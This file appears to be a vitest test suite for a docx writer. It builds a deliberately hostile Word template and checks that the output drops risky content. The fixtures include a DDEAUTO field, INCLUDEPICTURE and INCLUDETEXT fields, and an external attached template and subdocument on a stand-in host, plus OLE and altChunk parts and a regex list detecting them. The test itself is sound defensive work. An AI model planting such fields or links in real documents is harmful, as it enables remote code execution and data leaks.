import { Paragraph } from 'docx'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'

import { childrenOf } from '#shared/word/read-xml.ts'
import { WordProblem } from '#shared/word/word-problem.ts'
import { writeWord } from '#shared/word/write-word.ts'
import { readTree } from '#shared/word/xml-tree.ts'
import {
  findAll,
  namespaces,
  openPart,
  openParts,
  ownText,
  relationships,
  textIn,
} from '#tests/shared/word/docx-files.ts'
import { changePart, makeHouse, usualText } from '#tests/shared/word/house-templates.ts'
import { sampleDocument } from '#tests/shared/word/sample-document.ts'

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const far = (id: string, kind: string, target: string) =>
  `<Relationship Id="${id}" Type="${office}/${kind}" Target="${target}" TargetMode="External"/>`
const near = (id: string, kind: string, target: string) =>
  `<Relationship Id="${id}" Type="${office}/${kind}" Target="${target}"/>`
const run = (xml: string) => `<w:r>${xml}</w:r>`
const mark = (kind: string) => run(`<w:fldChar w:fldCharType="${kind}"/>`)
const field = (code: string, shown: string) =>
  `${mark('begin')}${run(`<w:instrText>${code.slice(0, 4)}</w:instrText>`)}${run(`<w:instrText>${code.slice(4)}</w:instrText>`)}${mark('separate')}${run(`<w:t>${shown}</w:t>`)}${mark('end')}`
const line = (xml: string) => `<w:p>${xml}</w:p>`

const drawing = `<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="far1"/></wp:inline></w:drawing>`
const ole = `<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" r:id="near1"/></w:object>`
const body = [
  line(run(drawing)),
  line(run(ole)),
  line(field('DDEAUTO c:\\\\x "y"', 'after dde')),
  line(field('INCLUDEPICTURE "http://bad.example/p"', 'after picture')),
  line(
    `${mark('begin')}${field('QUOTE INCLUDETEXT', 'INCLUDETEXT')}${run('<w:instrText>PAGE</w:instrText>')}${mark('end')}`,
  ),
  line(
    '<w:fldSimple w:instr="INCLUDETEXT &quot;http://bad.example/t&quot;"><w:r><w:t>after text</w:t></w:r></w:fldSimple>',
  ),
  line(field('PAGE \\* MERGEFORMAT', '1')),
  line('<w:hyperlink r:id="far2"><w:r><w:t>our site</w:t></w:r></w:hyperlink>'),
  line('<w:hyperlink r:id="far3"><w:r><w:t>a share</w:t></w:r></w:hyperlink>'),
  line(
    `<w:commentRangeStart w:id="7"/>${run('<w:t>noted</w:t>')}<w:commentRangeEnd w:id="7"/>${run('<w:commentReference w:id="7"/>')}`,
  ),
  '<w:altChunk r:id="near2"/>',
].join('')

const toBody = [
  far('far1', 'image', 'http://bad.example/i.png'),
  far('far2', 'hyperlink', 'https://house.example/'),
  far('far3', 'hyperlink', 'file://bad.example/share'),
  far('far4', 'subDocument', 'http://bad.example/s.docx'),
  near('near1', 'oleObject', 'embeddings/oleObject1.bin'),
  near('near2', 'aFChunk', 'chunk.html'),
  near('near3', 'comments', 'comments.xml'),
  near('near4', 'customXml', '../customXml/item1.xml'),
].join('')

const settings =
  '<w:attachedTemplate r:id="far1"/><w:mailMerge><w:query w:val="SELECT"/></w:mailMerge><w:docVars><w:docVar w:name="a" w:val="secret"/></w:docVars>'

async function makeHostile(): Promise<Uint8Array> {
  const plain = await makeHouse([...usualText(), new Paragraph('HERE')], {
    customProperties: [{ name: 'Client', value: 'secret client' }],
    lastModifiedBy: 'secret person',
  })
  const changes: readonly (readonly [string, (xml: string) => string])[] = [
    ['word/document.xml', (xml) => xml.replace(/<w:p>(?:(?!<w:p>).)*HERE.*?<\/w:p>/, body)],
    ['word/_rels/document.xml.rels', (xml) => xml.replace('</Relationships>', `${toBody}</Relationships>`)],
    ['word/settings.xml', (xml) => xml.replace(/(<w:settings[^>]*>)/, `$1${settings}`)],
    [
      'word/_rels/settings.xml.rels',
      () =>
        relationships({}).replace(
          '</Relationships>',
          `${far('far1', 'attachedTemplate', 'http://bad.example/t.dotm')}</Relationships>`,
        ),
    ],
    ['word/embeddings/oleObject1.bin', () => 'secret object'],
    ['word/chunk.html', () => '<html>secret chunk</html>'],
    ['word/comments.xml', () => `<w:comments ${namespaces}/>`],
    ['customXml/item1.xml', () => '<secret/>'],
    [
      'docProps/app.xml',
      () =>
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Company>secret company</Company></Properties>',
    ],
    ['docProps/core.xml', (xml) => xml.replace('</cp:core', '<cp:category>secret</cp:category></cp:core')],
  ]
  return changes.reduce((bytes, [part, change]) => changePart(bytes, part, change), plain)
}

describe('a template made to do harm', () => {
  it('leaves its text in the draft and nothing that fetches, runs or tells', async () => {
    const bytes = await writeWord(sampleDocument, { house: await makeHostile() })
    const parts = Object.entries(unzipSync(bytes))
    const text = parts.map(([name, part]) => `${name}\n${strFromU8(part)}`).join('\n')
    const bad = [
      /bad\.example/,
      /secret/,
      /attachedTemplate|mailMerge|docVar/,
      /OLEObject|oleObject/,
      /altChunk|aFChunk/,
      /customXml/,
      /commentReference|comments\.xml/,
    ]
    expect(bad.filter((words) => words.test(text))).toEqual([])
    const codes = findAll(openPart(bytes, 'word/document.xml'), 'w:instrText').map(ownText)
    expect(codes.filter((code) => !/^ ?(TOC|PAGEREF|PAGE|REF|SEQ) /.test(code))).toEqual([
      'PAGE',
      ' \\* MERGEFORMAT',
    ])
    expect(/w:instr="\s*(DDE|INCLUDE)/.test(text)).toBe(false)
    const outside = [...openParts(bytes)]
      .filter(([name]) => name.endsWith('.rels'))
      .flatMap(([, part]) => childrenOf(part))
      .filter(({ attributes }) => attributes.get('TargetMode') === 'External')
    expect(outside.length).toBeGreaterThan(0)
    expect(outside.filter(({ attributes }) => attributes.get('Type') !== `${office}/hyperlink`)).toEqual([])
    expect(text.includes('https://house.example/')).toBe(true)
    const words = textIn(openPart(bytes, 'word/document.xml'))
    for (const kept of ['after dde', 'after picture', 'after text', 'our site', 'a share', 'noted'])
      expect(words).toContain(kept)
    expect(textIn(openPart(bytes, 'word/document.xml'))).toContain(sampleDocument.title)
  })

  it('nested beyond reason is refused', async () => {
    const deep = `${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}`
    expect(() => readTree(new TextEncoder().encode(deep))).toThrow(WordProblem)
    const header = (xml: string) => xml.replace('</w:hdr>', `${deep}</w:hdr>`)
    const house = changePart(await makeHouse(usualText()), 'word/header1.xml', header)
    await expect(writeWord(sampleDocument, { house })).rejects.toThrow(WordProblem)
  })
})
